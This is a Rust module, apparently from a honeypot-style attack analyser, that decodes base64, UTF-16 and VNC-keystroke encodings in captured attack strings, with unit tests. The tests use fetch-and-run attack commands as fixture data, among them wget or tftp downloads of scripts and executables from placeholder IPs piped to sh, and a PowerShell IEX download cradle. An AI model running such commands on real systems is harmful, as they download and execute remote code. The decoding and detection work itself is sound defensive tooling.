//! Decoders of the pre-processing stage (the C PREPROC plugins): pure functions from an attack
//! string to derived attack strings, and [`Decoders`], the stage that runs the configured ones
//! (`b64Decode`, `deUnicode`, `vncDownload`) again over what they derive, within a budget.
//! Replaces htm_b64Decode.c, htm_deUnicode.c and the keystroke part of htm_vncDownload.c.
//!
//! Each derived string runs through the rest of the pipeline (command extraction and
//! downloads); downloads found in it belong to the original attack. Every function here is
//! linear in its input and allocates at most a few times the input size; the `_within`
//! variants never decode what could exceed a given size (the caller's budget).
//!
//! Deliberate differences from the C plugins: the base64 decoder is a correct RFC 4648 one (the
//! original assembled 3-character groups with wrong bit arithmetic), accepts the URL-safe
//! alphabet, and `Negotiate`/`NTLM` are matched in any letter case; `vnc_keystrokes` never
//! reads past a short input (htm_vncDownload.c did).

use crate::budget::Charge;
use crate::log::Throttle;
use crate::{log_info, log_noisy, log_warn};
use std::time::Duration;

/// Most base64 runs `base64_runs` returns.
pub const MAX_RUNS: usize = 16;
/// Most blobs `negotiate_blobs` returns.
pub const MAX_BLOBS: usize = 16;
/// Shortest run of base64 characters `base64_runs` considers.
pub const MIN_RUN: usize = 16;

/// The value of a base64 character in the standard or the URL-safe alphabet.
fn b64_value(c: u8) -> Option<u8> {
    match c {
        b'A'..=b'Z' => Some(c - b'A'),
        b'a'..=b'z' => Some(c - b'a' + 26),
        b'0'..=b'9' => Some(c - b'0' + 52),
        b'+' | b'-' => Some(62),
        b'/' | b'_' => Some(63),
        _ => None,
    }
}

/// Encodes `data` as standard base64 with padding (HTTP Basic credentials; the tests' attack
/// strings).
pub fn base64_encode(data: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for chunk in data.chunks(3) {
        let b = [chunk[0], chunk.get(1).copied().unwrap_or(0), chunk.get(2).copied().unwrap_or(0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * i)) as usize & 63] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// Decodes base64 in the standard (`+/`) or URL-safe (`-_`) alphabet. Padding is optional,
/// but `=` may only end the input; ASCII whitespace is ignored. `None` when the input is
/// empty, contains other characters, or has a length no base64 encoder produces.
pub fn base64_decode(input: &[u8]) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(input.len() / 4 * 3 + 3);
    let mut acc: u32 = 0;
    let mut n = 0usize; // symbols in the current group
    let mut symbols = 0usize;
    let mut pad = 0usize;
    for &c in input {
        if c.is_ascii_whitespace() {
            continue;
        }
        if c == b'=' {
            pad += 1;
            if pad > 2 {
                return None;
            }
            continue;
        }
        if pad > 0 {
            return None; // data after padding
        }
        let v = b64_value(c)?;
        acc = (acc << 6) | u32::from(v);
        n += 1;
        symbols += 1;
        if n == 4 {
            out.extend_from_slice(&[(acc >> 16) as u8, (acc >> 8) as u8, acc as u8]);
            acc = 0;
            n = 0;
        }
    }
    match n {
        0 if pad == 0 => {}
        2 => out.push((acc >> 4) as u8),
        3 => out.extend_from_slice(&[(acc >> 10) as u8, (acc >> 2) as u8]),
        _ => return None,
    }
    if pad > 0 && !(symbols + pad).is_multiple_of(4) {
        return None;
    }
    if out.is_empty() {
        return None;
    }
    Some(out)
}

fn is_b64_char(c: u8) -> bool {
    b64_value(c).is_some()
}

/// Case-insensitive: does `hay` start with `needle` at `at`?
fn starts_ci(hay: &[u8], at: usize, needle: &[u8]) -> bool {
    hay.get(at..at + needle.len()).is_some_and(|s| s.eq_ignore_ascii_case(needle))
}

/// The bodies of `Authorization: Negotiate <base64>` / `NTLM <base64>` style credentials
/// (the b64Decode plugin's trigger, the ASN.1/SPNEGO exploits), decoded. At most
/// `MAX_BLOBS`, in order of appearance.
pub fn negotiate_blobs(attack: &[u8]) -> Vec<Vec<u8>> {
    negotiate_blobs_within(attack, usize::MAX).0
}

/// Most bytes the decoding of `symbols` base64 characters can give.
fn decoded_len(symbols: usize) -> usize {
    symbols / 4 * 3 + 2
}

/// [`negotiate_blobs`], leaving out (undecoded) every body that could decode to more than
/// `max_len` bytes; also returns how many were left out.
pub fn negotiate_blobs_within(attack: &[u8], max_len: usize) -> (Vec<Vec<u8>>, usize) {
    let mut out = Vec::new();
    let mut left_out = 0;
    let mut i = 0;
    while i < attack.len() && out.len() < MAX_BLOBS {
        let kw = if starts_ci(attack, i, b"negotiate ") {
            10
        } else if starts_ci(attack, i, b"ntlm ") {
            5
        } else {
            i += 1;
            continue;
        };
        // The keyword must start a word (`WWW-Authenticate: Negotiate`, not `xntlm`).
        if i > 0 && attack[i - 1].is_ascii_alphanumeric() {
            i += 1;
            continue;
        }
        let mut j = i + kw;
        while attack.get(j) == Some(&b' ') {
            j += 1;
        }
        let start = j;
        while attack.get(j).is_some_and(|&c| is_b64_char(c)) {
            j += 1;
        }
        let mut pads = 0;
        while pads < 2 && attack.get(j) == Some(&b'=') {
            j += 1;
            pads += 1;
        }
        if decoded_len(j - start) > max_len {
            left_out += 1;
        } else if let Some(d) = base64_decode(&attack[start..j]) {
            out.push(d);
        }
        i = j.max(i + 1);
    }
    (out, left_out)
}

/// Is this decoded run worth a derived attack string: mostly printable text (also as
/// UTF-16LE), or the start of a PE or ELF binary?
fn interesting(d: &[u8]) -> bool {
    if d.starts_with(b"MZ") || d.starts_with(b"\x7fELF") {
        return d.len() >= 4;
    }
    if d.len() < 8 {
        return false;
    }
    let printable = |c: &u8| matches!(*c, 0x20..=0x7e | b'\t' | b'\r' | b'\n');
    let text = d.iter().filter(|c| printable(c)).count();
    if text * 10 >= d.len() * 9 {
        return true;
    }
    // UTF-16LE text: printable low bytes, zero high bytes.
    let lows = d.iter().step_by(2).filter(|c| printable(c)).count();
    let highs = d.iter().skip(1).step_by(2).filter(|&&c| c == 0).count();
    let half = d.len() / 2;
    half > 0 && lows * 10 >= d.len().div_ceil(2) * 9 && highs * 10 >= half * 9
}

/// Other embedded base64 runs: maximal runs of at least `MIN_RUN` base64 characters
/// (optionally followed by `=` padding) whose decoding is mostly printable text (ASCII or
/// UTF-16LE) or starts with a binary magic (`MZ`, `\x7fELF`). Runs that follow `Negotiate `
/// or `NTLM ` are left to `negotiate_blobs`. A run whose length is one more than a multiple
/// of four loses its last character. At most `MAX_RUNS` results.
pub fn base64_runs(attack: &[u8]) -> Vec<Vec<u8>> {
    base64_runs_within(attack, usize::MAX).0
}

/// [`base64_runs`], leaving out (undecoded) every run that could decode to more than
/// `max_len` bytes; also returns how many were left out.
pub fn base64_runs_within(attack: &[u8], max_len: usize) -> (Vec<Vec<u8>>, usize) {
    let mut out = Vec::new();
    let mut left_out = 0;
    let mut i = 0;
    while i < attack.len() && out.len() < MAX_RUNS {
        if !is_b64_char(attack[i]) {
            i += 1;
            continue;
        }
        let start = i;
        while attack.get(i).is_some_and(|&c| is_b64_char(c)) {
            i += 1;
        }
        let mut end = i;
        let mut pads = 0;
        while pads < 2 && attack.get(end) == Some(&b'=') {
            end += 1;
            pads += 1;
        }
        let symbols = i - start;
        if symbols < MIN_RUN || after_auth_keyword(attack, start) {
            i = end;
            continue;
        }
        if decoded_len(symbols) > max_len {
            left_out += 1;
            i = end;
            continue;
        }
        let run = if symbols % 4 == 1 { &attack[start..i - 1] } else { &attack[start..end] };
        // Padding that does not fit the length: decode without it.
        let decoded = base64_decode(run).or_else(|| base64_decode(&attack[start..i]));
        if let Some(d) = decoded {
            if interesting(&d) {
                out.push(d);
            }
        }
        i = end;
    }
    (out, left_out)
}

/// Is `start` the first byte after `Negotiate ` / `NTLM ` (plus spaces)?
fn after_auth_keyword(attack: &[u8], start: usize) -> bool {
    let mut j = start;
    while j > 0 && attack[j - 1] == b' ' {
        j -= 1;
    }
    if j == start {
        return false;
    }
    (j >= 9 && attack[j - 9..j].eq_ignore_ascii_case(b"negotiate"))
        || (j >= 4 && attack[j - 4..j].eq_ignore_ascii_case(b"ntlm"))
}

/// Does [`de_unicode`] apply: more than a third of the bytes are zero?
pub fn looks_utf16(attack: &[u8]) -> bool {
    let zeros = attack.iter().filter(|&&c| c == 0).count();
    !attack.is_empty() && zeros * 3 > attack.len()
}

/// As htm_deUnicode.c: when more than a third of the bytes are zero, the attack is taken as
/// UTF-16: alignment 0 if more than half of the zero bytes are at odd offsets, else 1; the
/// result is every second byte from the alignment on. `None` when the rule does not apply.
pub fn de_unicode(attack: &[u8]) -> Option<Vec<u8>> {
    if !looks_utf16(attack) {
        return None;
    }
    let zeros = attack.iter().filter(|&&c| c == 0).count();
    let odd_zeros = attack.iter().skip(1).step_by(2).filter(|&&c| c == 0).count();
    let align = if odd_zeros * 2 > zeros { 0 } else { 1 };
    let out: Vec<u8> = attack.iter().skip(align).step_by(2).copied().collect();
    if out.is_empty() {
        None
    } else {
        Some(out)
    }
}

/// The RFB greeting a VNC session starts with (as htm_vncDownload.c expects it).
const RFB_MAGIC: &[u8] = b"RFB 003.008";

/// As htm_vncDownload.c: the text typed in a VNC session. The attack must start with
/// `RFB 003.008`; the printable bytes after it, without leading `r` and trailing `Q` characters,
/// with each pair of equal neighbours (key down, key up) reduced to one character. `None` when
/// the attack is not such a session or nothing remains.
pub fn vnc_keystrokes(attack: &[u8]) -> Option<Vec<u8>> {
    let rest = attack.strip_prefix(RFB_MAGIC)?;
    let printable: Vec<u8> = rest.iter().copied().filter(|c| (0x20..=0x7e).contains(c)).collect();
    let start = printable.iter().position(|&c| c != b'r')?;
    let end = printable.iter().rposition(|&c| c != b'Q')? + 1;
    if start >= end {
        return None;
    }
    let s = &printable[start..end];
    // Delete character i when it equals character i+1, then continue after the survivor
    // (the C loop's order): "aaaa" (two key presses) becomes "aa".
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        if i + 1 < s.len() && s[i] == s[i + 1] {
            i += 1;
        }
        out.push(s[i]);
        i += 1;
    }
    if out.is_empty() {
        None
    } else {
        Some(out)
    }
}

/// Most bytes the decoders derive from one attack, every string and nesting level together:
/// decoding goes as deep as the encodings go, until this budget (or the daemon's memory
/// budget for attack data) is spent.
pub const DECODE_BUDGET: usize = 16 << 20;
/// Most strings derived from one attack by the decoders (nested decoding included).
pub const MAX_DERIVED: usize = 64;

/// Which decoders run (`plugin-b64Decode`, `plugin-deUnicode`, `plugin-vncDownload`,
/// `plugin-xmatch` with its patterns).
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Decoders {
    pub b64: bool,
    pub unicode: bool,
    pub vnc: bool,
    pub xmatch: Option<std::sync::Arc<super::xmatch::Patterns>>,
}

/// The strings derived so far and what is left of the budgets.
struct Derived<'c> {
    out: Vec<Vec<u8>>,
    /// Bytes of [`DECODE_BUDGET`] left.
    left: usize,
    /// Pays for `out` in the daemon's memory budget.
    charge: &'c mut Charge,
    /// Strings not kept for want of budget (or beyond [`MAX_DERIVED`]).
    left_out: usize,
}

impl Derived<'_> {
    /// The largest string that could still be kept.
    fn room(&self) -> usize {
        if self.out.len() >= MAX_DERIVED {
            0
        } else {
            self.left
        }
    }

    /// Keeps `d` if it is new and the budgets allow; returns whether it was kept.
    fn push(&mut self, d: Vec<u8>, original: &[u8]) -> bool {
        if d.is_empty() || d == original || self.out.contains(&d) {
            return false;
        }
        if d.len() > self.room() || !self.charge.try_grow(d.len()) {
            self.left_out += 1;
            return false;
        }
        self.left -= d.len();
        self.out.push(d);
        true
    }
}

impl Decoders {
    /// The strings the decoders derive from `data`, breadth first, each one decoded again in
    /// turn, as long as [`DECODE_BUDGET`], [`MAX_DERIVED`] and the daemon's memory budget
    /// (through `charge`, which pays for the strings returned) allow; each is logged as the
    /// C plugins did, and strings left out for want of budget are logged too.
    pub fn derive(&self, data: &[u8], charge: &mut Charge) -> Vec<Vec<u8>> {
        self.derive_within(data, charge, DECODE_BUDGET)
    }

    /// [`Decoders::derive`] with a decoding budget of `budget` bytes.
    fn derive_within(&self, data: &[u8], charge: &mut Charge, budget: usize) -> Vec<Vec<u8>> {
        let mut d = Derived { out: Vec::new(), left: budget, charge, left_out: 0 };
        // The VNC session is only recognised in the original string (it starts with the
        // protocol banner).
        if self.vnc {
            if let Some(keys) = vnc_keystrokes(data).filter(|k| k.len() <= d.room()) {
                log_info!("vncDownload - Keystrokes found in VNC session, {} bytes reconstructed.", keys.len());
                d.push(keys, data);
            }
        }
        // XOR-encoded data is looked for in the original string, as the C plugin did.
        if let Some(x) = &self.xmatch {
            if let Some((found, decoded)) = x.decode(data) {
                if d.push(decoded, data) {
                    log_info!(
                        "xmatch - Attack string is XOR-encoded with a {}-byte key (known plaintext at offset {}), decoded.",
                        found.key.len(),
                        found.offset
                    );
                }
            }
        }
        self.decode_one(data, &mut d, data);
        // Every string kept is decoded once, in the order found.
        let mut next = 0;
        while next < d.out.len() {
            let s = std::mem::take(&mut d.out[next]);
            self.decode_one(&s, &mut d, data);
            d.out[next] = s;
            next += 1;
        }
        if d.left_out > 0 {
            static WARN: Throttle = Throttle::new(Duration::from_secs(10));
            if let Some(more) = WARN.due() {
                log_warn!(
                    "Decoder - Warning - {} decoded strings of an attack not analysed: decoding budget ({} bytes, {} strings) or memory budget spent ({} more since the last warning).",
                    d.left_out,
                    budget,
                    MAX_DERIVED,
                    more
                );
            }
        }
        d.out
    }

    /// Runs the decoders over `s` once, keeping what they find in `d`.
    fn decode_one(&self, s: &[u8], d: &mut Derived<'_>, original: &[u8]) {
        if self.b64 {
            let (blobs, over) = negotiate_blobs_within(s, d.room());
            let (runs, over_runs) = base64_runs_within(s, d.room());
            d.left_out += over + over_runs;
            if !blobs.is_empty() || !runs.is_empty() {
                log_info!("Base64 decoder - Encoded attack string found, trying to decode.");
                log_info!("Base64 decoder - Calling plugins for decoded attack.");
            }
            for b in blobs.into_iter().chain(runs) {
                d.push(b, original);
            }
        }
        if self.unicode && looks_utf16(s) {
            // UTF-16 halves the string: decoded only when the half fits.
            if s.len().div_ceil(2) > d.room() {
                d.left_out += 1;
            } else if let Some(u) = de_unicode(s) {
                log_noisy!("deUnicode - Attack string seems to contain unicode encoded data, decoding it.");
                d.push(u, original);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::fetch::requests_of;
    use crate::wire::testutil::XorShift;

    fn enc(data: &[u8]) -> String {
        base64_encode(data)
    }

    #[test]
    fn base64_known_vectors() {
        // RFC 4648 §10.
        let cases: &[(&str, &str)] = &[
            ("Zg==", "f"),
            ("Zm8=", "fo"),
            ("Zm9v", "foo"),
            ("Zm9vYg==", "foob"),
            ("Zm9vYmE=", "fooba"),
            ("Zm9vYmFy", "foobar"),
            ("Zm9vYg", "foob"),
            ("Zm9v\r\nYmFy", "foobar"),
            (" Zm9vYmE ", "fooba"),
        ];
        for (e, d) in cases {
            assert_eq!(base64_decode(e.as_bytes()).as_deref(), Some(d.as_bytes()), "{e}");
        }
        assert_eq!(base64_decode(b"-_8="), Some(vec![0xfb, 0xff]));
        assert_eq!(base64_decode(b"+/8="), Some(vec![0xfb, 0xff]));
        for bad in ["", "=", "Z", "Zm9vY", "Zm=9v", "Zm9v===", "Zm9v!", "Zg=", "Zm9vYmFy=", "===="] {
            assert_eq!(base64_decode(bad.as_bytes()), None, "{bad:?}");
        }
    }

    #[test]
    fn base64_round_trip_random() {
        let mut rng = XorShift(0x05ee_db64);
        for _ in 0..2000 {
            let len = rng.below(64) + 1;
            let data: Vec<u8> = (0..len).map(|_| rng.next() as u8).collect();
            let e = enc(&data);
            assert_eq!(base64_decode(e.as_bytes()).as_deref(), Some(&data[..]));
            assert_eq!(base64_decode(e.trim_end_matches('=').as_bytes()).as_deref(), Some(&data[..]));
        }
    }

    #[test]
    fn negotiate() {
        let body = b"wget http://10.1.2.3/x.exe";
        let a = format!("GET / HTTP/1.1\r\nAuthorization: Negotiate {}\r\n\r\n", enc(body));
        assert_eq!(negotiate_blobs(a.as_bytes()), vec![body.to_vec()]);
        let a = format!("Authorization: NTLM {}\r\nX: negotiate {}", enc(b"abc"), enc(b"de"));
        assert_eq!(negotiate_blobs(a.as_bytes()), vec![b"abc".to_vec(), b"de".to_vec()]);
        assert!(negotiate_blobs(b"Negotiate !!!").is_empty());
        assert!(negotiate_blobs(b"Negotiate ").is_empty());
        assert!(negotiate_blobs(b"xNTLM Zm9v").is_empty());
    }

    #[test]
    fn runs() {
        let cmd = b"cd /tmp; wget http://198.51.100.7/a.sh; sh a.sh";
        let a = format!("POST /x HTTP/1.1\r\n\r\ncmd=echo {}|base64 -d|sh", enc(cmd));
        assert_eq!(base64_runs(a.as_bytes()), vec![cmd.to_vec()]);
        // Unpadded, and a length of 4k+1 loses its last character.
        let a = format!("x {}A y", enc(&cmd[..45]));
        assert_eq!(base64_runs(a.as_bytes()), vec![cmd[..45].to_vec()]);
        // An ELF header is interesting, random binary is not.
        let elf = b"\x7fELF\x01\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x08\x00";
        assert_eq!(base64_runs(enc(elf).as_bytes()), vec![elf.to_vec()]);
        let noise: Vec<u8> = (0u8..48).map(|b| b.wrapping_mul(37).wrapping_add(128)).collect();
        assert!(base64_runs(enc(&noise).as_bytes()).is_empty());
        // UTF-16LE text (powershell -enc).
        let u: Vec<u8> = b"IEX (New-Object Net.WebClient)".iter().flat_map(|&c| [c, 0]).collect();
        assert_eq!(base64_runs(enc(&u).as_bytes()), vec![u.clone()]);
        // Short runs, plain words and paths are not base64 text.
        assert!(base64_runs(b"/usr/local/bin/something-long_enough").is_empty());
        assert!(base64_runs(b"Zm9vYmFy").is_empty());
        // Negotiate bodies are left to negotiate_blobs.
        let a = format!("Authorization: Negotiate {}", enc(cmd));
        assert!(base64_runs(a.as_bytes()).is_empty());
        // Bounded count.
        let many = format!("{} ", enc(cmd)).repeat(100);
        assert_eq!(base64_runs(many.as_bytes()).len(), MAX_RUNS);
        // Within a size: longer runs are left out undecoded, and counted.
        let a = format!("{} {}", enc(&cmd[..20]), enc(cmd));
        assert_eq!(base64_runs_within(a.as_bytes(), 30), (vec![cmd[..20].to_vec()], 1));
        let a = format!("Negotiate {}\nNTLM {}", enc(cmd), enc(b"short-ntlm"));
        assert_eq!(negotiate_blobs_within(a.as_bytes(), 20), (vec![b"short-ntlm".to_vec()], 1));
    }

    #[test]
    fn unicode() {
        let u: Vec<u8> = b"tftp -i 1.2.3.4 GET a.exe".iter().flat_map(|&c| [c, 0]).collect();
        assert_eq!(de_unicode(&u).as_deref(), Some(&b"tftp -i 1.2.3.4 GET a.exe"[..]));
        // Misaligned (a leading byte): zeros at even offsets, alignment 1.
        let m = b"\x00g\x00e\x00t\x00 \x00x";
        assert_eq!(de_unicode(m).as_deref(), Some(&b"get x"[..]));
        // Odd size with alignment 0 keeps the last byte.
        assert_eq!(de_unicode(b"a\x00b\x00c").as_deref(), Some(&b"abc"[..]));
        assert_eq!(de_unicode(b"plain ascii"), None);
        assert_eq!(de_unicode(b""), None);
        // Exactly a third is not "more than a third".
        assert_eq!(de_unicode(b"ab\x00"), None);
        assert_eq!(de_unicode(b"\x00"), None);
        assert_eq!(de_unicode(b"\x00\x00").as_deref(), Some(&b"\x00"[..]));
    }

    #[test]
    fn vnc() {
        let mut a = b"RFB 003.008\n\x01\x02".to_vec();
        for &c in b"rrtftp -i 1.2.3.4 GET a.exe" {
            a.extend_from_slice(&[4, 1, 0, 0, 0, 0, 0, c, 4, 0, 0, 0, 0, 0, 0, c]);
        }
        a.extend_from_slice(b"QQQ");
        assert_eq!(vnc_keystrokes(&a).as_deref(), Some(&b"tftp -i 1.2.3.4 GET a.exe"[..]));
        assert_eq!(vnc_keystrokes(b"RFB 003.008aabbbccccQ").as_deref(), Some(&b"abbcc"[..]));
        assert_eq!(vnc_keystrokes(b"RFB 003.008"), None);
        assert_eq!(vnc_keystrokes(b"RFB 003.008rrrQQ"), None);
        assert_eq!(vnc_keystrokes(b"RFB 003.008\x00\x01\x02"), None);
        assert_eq!(vnc_keystrokes(b"RFB 003"), None);
        assert_eq!(vnc_keystrokes(b""), None);
        assert_eq!(vnc_keystrokes(b"RFB 003.007abc"), None);
    }

    #[test]
    fn no_panic_random() {
        let mut rng = XorShift(0xdec0de);
        let alphabet = b"AZaz09+/-_= \r\n\x00NegotiateNTLM RFB 003.008rQ";
        for round in 0..3000 {
            let len = rng.below(300);
            let mut v: Vec<u8> = (0..len)
                .map(|_| if round % 2 == 0 { rng.next() as u8 } else { alphabet[rng.below(alphabet.len())] })
                .collect();
            if round % 5 == 0 {
                let mut p = RFB_MAGIC.to_vec();
                p.append(&mut v);
                v = p;
            }
            let _ = base64_decode(&v);
            assert!(negotiate_blobs(&v).len() <= MAX_BLOBS);
            assert!(base64_runs(&v).len() <= MAX_RUNS);
            if let Some(d) = de_unicode(&v) {
                assert!(!d.is_empty() && d.len() <= v.len().div_ceil(2));
            }
            if let Some(k) = vnc_keystrokes(&v) {
                assert!(!k.is_empty() && k.len() < v.len());
            }
        }
    }

    #[test]
    fn linear_on_large_input() {
        let big = b"Negotiate QUFB ".repeat(200_000);
        let t = std::time::Instant::now();
        assert_eq!(negotiate_blobs(&big).len(), MAX_BLOBS);
        let _ = base64_runs(&b"A".repeat(3 << 20));
        let _ = de_unicode(&vec![0u8; 3 << 20]);
        assert!(t.elapsed() < std::time::Duration::from_secs(10));
    }

    #[test]
    fn decoders_nest_and_only_the_configured_ones_run() {
        let inner = "wget http://192.0.2.9/a.sh";
        let http = format!("GET / HTTP/1.1\r\nAuthorization: Negotiate {}\r\n\r\n", base64_encode(inner.as_bytes()));
        let utf16: Vec<u8> = http.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
        let all = Decoders { b64: true, unicode: true, vnc: true, xmatch: None };
        let none = &mut Charge::none();
        let derived = all.derive(&utf16, none);
        // UTF-16 first, then the base64 body inside it.
        assert_eq!(derived.first().map(Vec::as_slice), Some(http.as_bytes()));
        assert!(derived.iter().any(|d| d == inner.as_bytes()), "{derived:?}");
        let reqs = requests_of(&utf16, &derived).requests;
        assert_eq!(reqs.len(), 1, "{reqs:?}");
        assert_eq!((reqs[0].host.as_str(), reqs[0].path.as_str()), ("192.0.2.9", "/a.sh"));
        // Without deUnicode the base64 body stays hidden in the UTF-16 string.
        assert!(Decoders { unicode: false, ..all }.derive(&utf16, none).is_empty());
        assert!(Decoders::default().derive(http.as_bytes(), none).is_empty());
        // VNC: key-down/key-up pairs after the banner.
        let mut vnc = b"RFB 003.008\n".to_vec();
        vnc.extend(inner.bytes().flat_map(|c| [c, c]));
        assert_eq!(Decoders { vnc: true, ..Decoders::default() }.derive(&vnc, none), [inner.as_bytes().to_vec()]);
    }

    /// `levels` layers of base64, each one embedded in a line of text.
    fn nested_base64(cmd: &str, levels: usize, pad: usize) -> Vec<u8> {
        let mut s = format!("{cmd} #{}", "p".repeat(pad));
        for _ in 0..levels {
            s = format!("data={}\n", base64_encode(s.as_bytes()));
        }
        s.into_bytes()
    }

    #[test]
    fn nested_encodings_are_followed_at_any_depth_within_the_budget() {
        let b64 = Decoders { b64: true, ..Decoders::default() };
        let cmd = "wget http://192.0.2.7/deep.sh";
        for levels in [4, 5, 9] {
            let a = nested_base64(cmd, levels, 0);
            let derived = b64.derive(&a, &mut Charge::none());
            assert_eq!(derived.len(), levels, "{levels} levels");
            let reqs = requests_of(&a, &derived).requests;
            assert_eq!(reqs.len(), 1, "{levels} levels: {reqs:?}");
            assert_eq!(reqs[0].path, "/deep.sh");
        }
        // A big nest: decoding stops once the next layer no longer fits the decoding budget
        // (the outer layers are kept), and the strings are charged to the memory budget.
        let within = 64 << 10;
        let big = nested_base64(cmd, 4, within / 3);
        let budget = crate::budget::Budget::new(1 << 30);
        let mut charge = budget.charge();
        let derived = b64.derive_within(&big, &mut charge, within);
        let total: usize = derived.iter().map(Vec::len).sum();
        assert_eq!(derived.len(), 1, "only the outer layer fits");
        assert!(total <= within && charge.bytes() == total && budget.used() == total);
        drop(derived);
        drop(charge);
        assert_eq!(budget.used(), 0);
        // The memory budget: nothing derived when it has no room.
        let tight = crate::budget::Budget::new(16);
        assert!(b64.derive(&nested_base64(cmd, 2, 0), &mut tight.charge()).is_empty());
    }
}
